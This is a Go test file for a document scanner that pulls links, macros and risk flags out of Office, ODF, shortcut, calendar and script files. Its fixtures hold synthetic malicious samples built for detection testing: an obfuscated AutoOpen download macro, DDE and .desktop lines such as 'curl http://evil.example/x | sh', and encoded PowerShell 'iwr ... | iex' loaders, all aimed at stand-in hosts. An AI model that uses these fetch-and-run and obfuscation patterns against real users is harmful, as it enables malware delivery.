package document

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
)

const png = "\x89PNG\r\n\x1a\nnot much of a picture"

// want is what a case must find. Lists are compared whole, but for text and html,
// which must hold what is given.
type want struct {
	kind     string
	links    []string // "how url", "how* url" for a resource
	text     []string
	html     []string
	notes    string
	files    []string // "name:data"
	images   int
	problems string
}

func checkFindings(t *testing.T, f Findings, w want) {
	t.Helper()
	if f.Kind != w.kind {
		t.Errorf("Kind = %q, want %q", f.Kind, w.kind)
	}
	var links, files, problems []string
	for _, l := range f.Links {
		star := ""
		if l.Resource {
			star = "*"
		}
		links = append(links, l.How+star+" "+l.URL)
	}
	slices.Sort(links)
	wantLinks := slices.Sorted(slices.Values(w.links))
	if !slices.Equal(links, wantLinks) {
		t.Errorf("Links = %q, want %q", links, wantLinks)
	}
	for _, s := range w.text {
		if !strings.Contains(f.Text, s) {
			t.Errorf("Text = %q, want %q in it", f.Text, s)
		}
	}
	for _, s := range w.html {
		if !slices.ContainsFunc(f.HTML, func(h string) bool { return strings.Contains(h, s) }) {
			t.Errorf("HTML = %q, want %q in one", f.HTML, s)
		}
	}
	if notes := strings.Join(f.Notes, " "); notes != w.notes {
		t.Errorf("Notes = %q, want %q", notes, w.notes)
	}
	for _, file := range f.Files {
		files = append(files, file.Name+":"+string(file.Data[:min(len(file.Data), 30)]))
	}
	if !slices.Equal(files, w.files) {
		t.Errorf("Files = %q, want %q", files, w.files)
	}
	if len(f.Images) != w.images {
		t.Errorf("%d images, want %d", len(f.Images), w.images)
	}
	for _, p := range f.Problems {
		problems = append(problems, p.Code)
	}
	if got := strings.Join(problems, " "); got != w.problems {
		t.Errorf("problems = %q (%v), want %q", got, f.Problems, w.problems)
	}
}

// macroSource is a module that takes an address apart.
const macroSource = "Attribute VB_Name = \"ThisDocument\"\r\n" +
	"Sub AutoOpen()\r\n  ' downloads\r\n  Dim u As String\r\n" +
	"  u = \"htt\" & \"ps://evil.exa\" & _\r\n    \"mple/m\" & Chr(97) & ChrW(&H63) & Chr$(114) & \"o\"\r\n" +
	"  Call Fetch(\"http://plain.example/a\")\r\n" +
	"  x = StrReverse(\"exe.a/elpmaxe.kcab//:ptth\")\r\nEnd Sub\r\n"

var macroLinks = []string{"macro https://evil.example/macro", "macro http://plain.example/a", "macro http://back.example/a.exe"}

// samples are documents of every format with what they hold. The fuzz targets
// begin with them.
type sample struct {
	name, mediaType string
	data            []byte
	want            want
}

func samples(t testing.TB) []sample {
	hlink := append([]byte(classURL), le32(nil, uint32(2*len("https://evil.example/xls")+2))...)
	hlink = append(append(hlink, wide("https://evil.example/xls")...), 0, 0)
	sst := append(le32(le32(nil, 2), 2), append(append(le16(nil, 26), 0), "see http://evil.example/ss"...)...)
	sst = append(append(le16(sst, 4), 1), wide("日本語!")...)
	list := []sample{
		{"template.docx", "", office(t,
			"word/_rels/document.xml.rels", rels(rel("hyperlink", "https://evil.example/h?a=1&amp;b=2"), rel("image", "http://evil.example/p.png"),
				rel("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/b"), rel("frame", `\\evil.example\share\f.htm`),
				rel("hyperlink", "file:///C:/Users/a/b.doc"), inner("aFChunk", "chunk.html")),
			"word/_rels/settings.xml.rels", rels(rel("attachedTemplate", "https://evil.example/t.dotm")),
			"word/document.xml", `<w:document><w:body><w:p><w:r><w:t>Visit htt</w:t></w:r><w:r><w:t>p://shown.example/a</w:t></w:r></w:p>`+
				`<w:p><w:fldSimple w:instr=' HYPERLINK "https://simple.example/" \o "tip" '><w:r/></w:fldSimple></w:p>`+
				`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPER</w:instrText></w:r><w:r><w:instrText>LINK "https://spl</w:instrText></w:r><w:r><w:instrText>it.example/x"</w:instrText></w:r>`+
				`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>click</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`,
			"word/chunk.html", "<a href=http://chunk.example/>", "word/media/image1.png", png),
			want{kind: KindOOXML, notes: "embedded-file remote-template", images: 1, files: []string{"chunk.html:<a href=http://chunk.example/>"},
				links: []string{"hyperlink https://evil.example/h?a=1&b=2", "image* http://evil.example/p.png", "object http://evil.example/a", "object http://evil.example/b",
					"frame file://evil.example/share/f.htm", "template https://evil.example/t.dotm", "field https://simple.example/", "field https://split.example/x"},
				text: []string{"Visit http://shown.example/a\n", "click"}}},
		{"dde.docx", "", office(t, "word/document.xml",
			`<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k powershell iwr http://dde.example/a.ps1"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`+
				`<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 104 116 116 112 58 47 47</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>quote.example/p" \d</w:instrText><w:fldChar w:fldCharType="end"/></w:p></w:document>`),
			want{kind: KindOOXML, notes: "dde", links: []string{"image* http://quote.example/p"}, text: []string{"http://dde.example/a.ps1"}}},
		{"macro.docm", "", office(t, "word/vbaProject.bin", string(project(module("ThisDocument", macroSource))), "customUI/customUI.xml", `<customUI onLoad="Run"/>`),
			want{kind: KindOOXML, notes: "auto-run custom-ui macros", links: macroLinks, text: []string{"https://evil.example/macro"}}},
		{"sheet.xlsx", "", office(t,
			"xl/sharedStrings.xml", `<sst><si><r><t>http://run</t></r><r><t>.example/</t></r></si><si><t>日本</t></si></sst>`,
			"xl/worksheets/sheet1.xml", `<worksheet><sheetData><c><f>HYPERLINK("https://"&amp;"formula.example/x","Open")</f></c><c><f>WEBSERVICE("http://web.example/?"&amp;A1)</f></c><c><f>cmd|'/c calc'!A0</f></c></sheetData></worksheet>`,
			"xl/connections.xml", `<connections><connection><webPr url="http://query.example/q"/></connection></connections>`,
			"xl/externalLinks/_rels/externalLink1.xml.rels", rels(rel("externalLinkPath", "https://book.example/b.xlsx")),
			"xl/macrosheets/sheet2.xml", `<xm:macrosheet><c><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://xlm.example/a.dll","a",0,0)</f></c></xm:macrosheet>`,
			"xl/activeX/activeX1.xml", `<ax:ocx/>`),
			want{kind: KindOOXML, notes: "activex dde xlm-macros", text: []string{"http://run.example/\n", "日本", "cmd|'/c calc'!A0"},
				links: []string{"formula https://formula.example/x", "formula http://web.example/?", "external-link http://query.example/q", "external-link https://book.example/b.xlsx", "formula http://xlm.example/a.dll"}}},
		{"slides.pptx", "", office(t,
			"ppt/slides/slide1.xml", `<p:sld><a:p><a:r><a:t>see http://slide.example/a</a:t></a:r></a:p><a:hlinkMouseOver r:id="r" action="ppaction://program"/></p:sld>`,
			"ppt/slides/_rels/slide1.xml.rels", rels(rel("hyperlink", "https://over.example/")),
			"ppt/embeddings/oleObject1.bin", string(compoundOf(stream("\x01Ole10Native", native("請求.js", []byte("var a=1;"))))),
			"ppt/embeddings/book.xlsx", "PK\x03\x04 a workbook", "ppt/media/image1.png", png),
			want{kind: KindOOXML, notes: "embedded-file mouse-over-link program-action", images: 1, files: []string{"請求.js:var a=1;", "book.xlsx:PK\x03\x04 a workbook"},
				links: []string{"hyperlink https://over.example/"}, text: []string{"see http://slide.example/a"}}},
		{"velvet.xlsx", "", agile(office(t, "xl/_rels/workbook.xml.rels", rels(rel("hyperlink", "https://velvet.example/"))), excelPassword),
			want{kind: KindOLE, notes: "encrypted", links: []string{"hyperlink https://velvet.example/"}}},
		{"velvet2007.xlsx", "", standard(office(t, "xl/_rels/workbook.xml.rels", rels(rel("hyperlink", "https://velvet.example/")))),
			want{kind: KindOLE, notes: "encrypted", links: []string{"hyperlink https://velvet.example/"}}},
		{"editdata.mso", "", append(append([]byte(activeMime), make([]byte, 40)...), deflated(project(module("M", macroSource)))...), want{kind: KindOLE, notes: "auto-run macros", links: macroLinks}},
		{"macro.ppt", "", compoundOf(stream("PowerPoint Document", slices.Concat([]byte{0x10, 0}, le32(le16(nil, pptStorage), uint32(4+len(deflated(project(module("M", macroSource)))))),
			[]byte{0, 0, 0, 0}, deflated(project(module("M", macroSource)))))), want{kind: KindOLE, notes: "auto-run macros", links: macroLinks}},
		{"a.msg", "", compoundOf(stream("__properties_version1.0", []byte("http://not.example/ours"))), want{}},
		{"secret.xlsx", "", agile(office(t), "other"), want{kind: KindOLE, notes: "encrypted", problems: "encrypted"}},
		{"macro.doc", "", word(storage("Macros", vbaProject(module("ThisDocument", macroSource), stream("dir", ovbaCompress("nothing")))),
			stream("1Table", []byte("\x13HYPERLINK \"http://field.example/a\"\x14")), storage("ObjectPool", stream("Equation Native", []byte{1}))),
			want{kind: KindOLE, notes: "auto-run equation-editor macros", links: append([]string{"string http://field.example/a"}, macroLinks...)}},
		{"stomped.doc", "", word(vbaProject(stream("Module1", append([]byte("\xb9\x00\x19\x00http://stomped.example/ab"), "$\x00"...)))),
			want{kind: KindOLE, notes: "macros", links: []string{"string http://stomped.example/ab"}}},
		{"object.doc", "", word(storage("ObjectPool", storage("_1", stream("\x01Ole10Native", native("a.exe", []byte("MZ program"))), stream("Package", []byte("PK\x03\x04 book"))))),
			want{kind: KindOLE, notes: "embedded-file", files: []string{"a.exe:MZ program", ":PK\x03\x04 book"}}},
		{"book.xls", "", compoundOf(stream("Workbook", slices.Concat(
			record(biffBOF, make([]byte, 16)), record(biffBoundSheet, []byte("\x00\x00\x00\x00\x00\x01\x06\x00Macro1")),
			record(biffName, []byte("\x20\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01")),
			record(biffSST, sst), record(0x1b8, hlink)))),
			want{kind: KindOLE, notes: "auto-run xlm-macros", links: []string{"hyperlink https://evil.example/xls"}, text: []string{"see http://evil.example/ss\n日本語!\n"}}},
		{"locked.xls", "", compoundOf(stream("Workbook", record(biffFilePass, make([]byte, 6)))), want{kind: KindOLE, notes: "encrypted", problems: "encrypted"}},
		{"old.ppt", "", compoundOf(stream("PowerPoint Document", slices.Concat(
			[]byte{0x0f, 0, 0xe8, 3, 100, 0, 0, 0}, []byte{0x10, 0}, le32(le16(nil, pptCString), 46), wide("https://evil.example/pp"),
			[]byte{0x30, 0}, le32(le16(nil, pptTextBytes), 5), []byte("Hello")))),
			want{kind: KindOLE, links: []string{"hyperlink https://evil.example/pp"}, text: []string{"Hello"}}},
		{"equation.doc", "", compoundOf(of(classEquation, storage("Obj", stream("x", []byte{1})))), want{kind: KindOLE, notes: "equation-editor"}},
		{"text.odt", "", zipOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml", "<manifest/>", "content.xml",
			`<office:document-content><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/></office:event-listeners>`+
				`<text:p>see <text:a xlink:href="https://evil.example/odt">here</text:a></text:p><draw:image xlink:href="http://evil.example/i.png"/><draw:image xlink:href="Pictures/a.png"/></office:document-content>`,
			"Basic/Standard/M.xml", `<script:module>Sub Main&#10;Shell "mshta http://basic.example/a.hta"&#10;End Sub</script:module>`, "Pictures/a.png", png),
			want{kind: KindODF, notes: "auto-run macros", images: 1, links: []string{"hyperlink https://evil.example/odt", "image* http://evil.example/i.png", "macro http://basic.example/a.hta"}, text: []string{"see here\n"}}},
		{"flat.xml", "", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package><pkg:part><pkg:xmlData>` + rels(rel("attachedTemplate", "https://flat.example/t.dotm")) + `</pkg:xmlData></pkg:part><pkg:part><pkg:binaryData>` +
			base64.StdEncoding.EncodeToString(project(module("M", macroSource))) + `</pkg:binaryData></pkg:part></pkg:package>`),
			want{kind: KindFlat, notes: "auto-run macros remote-template", links: append([]string{"template https://flat.example/t.dotm"}, macroLinks...)}},
		{"invoice.lnk", "", shortcutOf(`..\a.pdf`, `-w hidden -enc `+base64.StdEncoding.EncodeToString(wide("iwr http://encoded.example/a.ps1|iex"))+` "http://args.example/b"`, `\\icon.example\s\a.ico`, `%windir%\powershell.exe`, []byte("MZ and what follows it here")),
			want{kind: KindShortcut, notes: "overlay-data shortcut", files: []string{":MZ and what follows it here"}, links: []string{"shortcut http://args.example/b", "icon* file://icon.example/s/a.ico"},
				text: []string{`%windir%\powershell.exe -w hidden`, "http://encoded.example/a.ps1", `..\a.pdf`}}},
		{"a.url", "", []byte("[InternetShortcut]\r\nURL=file://evil.example@80/DavWWWRoot/a.vbs\r\nIconFile=https://icon.example/a.ico\r\nIconIndex=1\r\n"),
			want{kind: KindInternet, notes: "shortcut", links: []string{"shortcut http://evil.example:80/a.vbs", "icon* https://icon.example/a.ico"}}},
		{"a.desktop", "", []byte("[Desktop Entry]\nType=Application\nExec=sh -c \"curl http://evil.example/x | sh\"\n"),
			want{kind: KindInternet, notes: "shortcut", links: []string{"shortcut http://evil.example/x"}}},
		{"a.library-ms", "", []byte("\xef\xbb\xbf<?xml version=\"1.0\"?>\n<libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><simpleLocation><url>\\\\evil.example\\share</url></simpleLocation></libraryDescription>"),
			want{kind: KindInternet, notes: "shortcut", links: []string{"shortcut file://evil.example/share"}}},
		{"a.settingcontent-ms", "", []byte(`<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd /c start http://deep.example/a</DeepLink></ApplicationInformation></SearchableContent></PCSettings>`),
			want{kind: KindInternet, notes: "shortcut", links: []string{"shortcut http://deep.example/a"}, text: []string{"cmd /c start"}}},
		{"a.webloc", "", []byte(`<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist><dict><key>URL</key><string>https://mac.example/a</string></dict></plist>`),
			want{kind: KindInternet, notes: "shortcut", links: []string{"shortcut https://mac.example/a"}}},
		{"b.webloc", "", []byte("bplist00\xd1\x01\x02SURL_\x10\x16https://bin.example/abc\x08\x0b\x0f\x00"),
			want{kind: KindInternet, notes: "shortcut", links: []string{"shortcut https://bin.example/ab"}}},
		{"note.one", "", oneOf("請求書.hta", "<script>1</script>", "p.png", png),
			want{kind: KindOneNote, notes: "embedded-file", images: 1, files: []string{"請求書.hta:<script>1</script>"}, links: []string{"string https://evil.example/one"}}},
		{"meeting.ics", "text/calendar", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:会議\r\nDESCRIPTION:Join\\n https://evil.exam\r\n ple/join\\, now\r\nLOCATION;ALTREP=\"https://Alt.example/\":here\r\nURL:https://url.example/a\r\n" +
			"ORGANIZER;CN=\"a\":mailto:a@sender.example\r\nX-ALT-DESC;FMTTYPE=text/html:<a href=\"https://alt.example/h\">x</a>\r\nATTACH:https://attach.example/f\r\n" +
			"ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=\"a.js\":dmFyIGE9MTs=\r\nX-GOOGLE-CONFERENCE:https://meet.example/x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
			want{kind: KindCalendar, notes: "embedded-file", files: []string{"a.js:var a=1;"}, html: []string{`href="https://alt.example/h"`}, text: []string{"Join\n https://evil.example/join, now\n", "会議"},
				links: []string{"calendar https://url.example/a", "calendar https://attach.example/f", "calendar https://meet.example/x", "calendar https://Alt.example/"}}},
		{"a.vcf", "", []byte("BEGIN:VCARD\nVERSION:2.1\nFN;CHARSET=SHIFT_JIS;ENCODING=QUOTED-PRINTABLE:=93=FA=\n=96=7B\nitem1.URL:https://card.example/\nPHOTO;ENCODING=b:" + base64.StdEncoding.EncodeToString([]byte(png)) + "\nNOTE:see https://note.example/\nEND:VCARD\n"),
			want{kind: KindCard, images: 1, links: []string{"calendar https://card.example/"}, text: []string{"日本\n", "https://note.example/"}}},
		{"a.js", "", []byte(`var a = "ht" + 'tp://' + "js.exam\x70le/a"; var b = String.fromCharCode(104,116,116,112,58,47,47,99,104,97,114,46,101,120,97,109,112,108,101); x.Open("GET", a);`),
			want{kind: KindScript, notes: "script", text: []string{"http://js.example/a\n", "http://char.example\n"}}},
		{"a.vbs", "", []byte("Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nu = \"http://vbs\"\r\nu = u & \".example/\"\r\nu = u & \"b\" ' done\r\nx.Open \"GET\", u\r\n"),
			want{kind: KindScript, notes: "script", text: []string{"http://vbs.example/b\n"}}},
		{"a.ps1", "", []byte("$u='http'+'://ps.example/'; $v = \"{1}{0}\" -f '.example/f','https://format'\n(New-Object Net.WebClient).DownloadString(\"${u}a\")\nIEX ('h!ttp://rep.exa!mple/'.Replace('!',''))"),
			want{kind: KindScript, notes: "script", text: []string{"http://ps.example/a\n", "https://format.example/f\n", "http://rep.example/\n"}}},
		{"a.bat", "", []byte("@echo off\r\ncurl h^t^tp://bat.example/x -o x\r\npowershell -e " + base64.StdEncoding.EncodeToString(wide("iex 'http://enc.example/'"))),
			want{kind: KindScript, notes: "script", text: []string{"http://bat.example/x\n", "http://enc.example/\n"}}},
		{"a.hta", "", []byte("<html><HTA:APPLICATION id=x><script language=\"VBScript\">u = \"http://hta\" & \".example/a\"</script></html>"),
			want{kind: KindScript, notes: "script", text: []string{"http://hta.example/a\n"}}},
		{"a.svg", "", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href = atob("aHR0cHM6Ly9zdmcuZXhhbXBsZS9h")</script></svg>`),
			want{kind: KindSVG, notes: "script script-redirect", links: []string{"script https://svg.example/a"}}},
		{"a.html", "text/html", []byte(`<!DOCTYPE html><html><svg></svg><script>location="http://page.example/"</script></html>`), want{}},
		{"a.wsf", "", []byte(`<job id="x"><script language="JScript">var u="http://wsf"+".example/a";</script></job>`), want{kind: KindScript, notes: "script", text: []string{"http://wsf.example/a\n"}}},
		{"plain.svg", "", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>`), want{kind: KindSVG}},
		{"a.txt", "text/plain", []byte("http://text.example/ is nobody's business here"), want{}},
		{"a.zip", "application/zip", zipOf(t, "a.txt", "hello"), want{}},
		{"empty", "", nil, want{}},
	}
	return list
}

func TestRead(t *testing.T) {
	for _, s := range samples(t) {
		t.Run(s.name, func(t *testing.T) { checkFindings(t, Read(s.data, s.mediaType, s.name, Limits{}), s.want) })
	}
}

// What has magic bytes is read whatever it is called.
func TestReadByContent(t *testing.T) {
	for _, s := range samples(t) {
		switch s.want.kind {
		case "", KindScript, KindSVG:
			continue
		}
		if got := Read(s.data, "application/octet-stream", "a.bin", Limits{}).Kind; got != s.want.kind {
			t.Errorf("%s under another name is %q, want %q", s.name, got, s.want.kind)
		}
	}
}

// A package whose directory was spoilt on purpose: Word repairs it.
func TestBrokenPackage(t *testing.T) {
	whole := office(t, "word/_rels/settings.xml.rels", rels(rel("attachedTemplate", "https://evil.example/t.dotm")))
	for name, b := range map[string][]byte{
		"no directory":  whole[:strings.Index(string(whole), "PK\x01\x02")],
		"junk in front": append([]byte("\x00\x00junk"), whole[:len(whole)-30]...),
		"bad end":       append(slices.Clone(whole[:len(whole)-8]), 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0),
	} {
		f := Read(b, "", "a.docx", Limits{})
		if len(f.Links) != 1 || f.Links[0].URL != "https://evil.example/t.dotm" {
			t.Errorf("%s: links %v, want the template; problems %v", name, f.Links, f.Problems)
		}
	}
}

func TestLimits(t *testing.T) {
	many := func(n int) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(rel("hyperlink", fmt.Sprintf("https://h%d.example/", i)))
		}
		return rels(b.String())
	}
	var parts []string
	for i := range 20 {
		parts = append(parts, fmt.Sprintf("word/%d.xml", i), "<a/>")
	}
	for _, c := range []struct {
		name  string
		data  []byte
		file  string
		l     Limits
		links int
	}{
		{"links", office(t, "word/_rels/a.rels", many(20)), "a.docx", Limits{Links: 10}, 10},
		{"entries", office(t, parts...), "a.docx", Limits{Entries: 10}, 0},
		{"bytes", office(t, "word/_rels/a.rels", many(20), "word/document.xml", strings.Repeat("a", 100_000)), "a.docx", Limits{Bytes: 20_000}, 20},
		{"ratio", office(t, "word/_rels/a.rels", many(2), "word/document.xml", strings.Repeat("a", 8<<20)), "a.docx", Limits{}, 2},
		{"depth", office(t, "word/document.xml", strings.Repeat("<a>", 300)+`<v href="https://deep.example/"/>`), "a.docx", Limits{}, 1},
		{"storages", compoundOf(deepStorages(200)), "a.doc", Limits{Entries: 100}, 0},
		{"long link", office(t, "word/_rels/a.rels", rels(rel("hyperlink", "https://long.example/"+strings.Repeat("あ", maxURL)))), "a.docx", Limits{}, 1},
	} {
		f := Read(c.data, "", c.file, c.l)
		if len(f.Links) != c.links {
			t.Errorf("%s: %d links, want %d", c.name, len(f.Links), c.links)
		}
		if !slices.ContainsFunc(f.Problems, func(p Problem) bool { return p.Code == ProblemLimit }) {
			t.Errorf("%s: problems %v, want one about a limit", c.name, f.Problems)
		}
		if most := c.l.orDefault().Bytes; f.Decoded > most {
			t.Errorf("%s: %d bytes decoded, want at most %d", c.name, f.Decoded, most)
		}
	}
}

func deepStorages(n int) node {
	s := stream("a", []byte("x"))
	for range n {
		s = storage("s", s)
	}
	return s
}

func TestUNC(t *testing.T) {
	for in, want := range map[string]string{
		`\\evil.example\share\a.exe`:            "file://evil.example/share/a.exe",
		`\\evil.example@SSL\DavWWWRoot\a b.lnk`: "https://evil.example/a b.lnk",
		`\\evil.example@SSL@8443\x`:             "https://evil.example:8443/x",
		`\\evil@8080\x`:                         "http://evil:8080/x",
		`file:////192.0.2.1/s`:                  "file://192.0.2.1/s",
		`\\?\UNC\evil.example\s`:                "file://evil.example/s",
		`\\fileserver\s`:                        "",
		`file:///C:/a.txt`:                      "",
		`C:\a.txt`:                              "",
		`\\?\C:\a`:                              "",
	} {
		if got, _ := uncURL(in); got != want {
			t.Errorf("uncURL(%q) = %q, want %q", in, got, want)
		}
	}
}
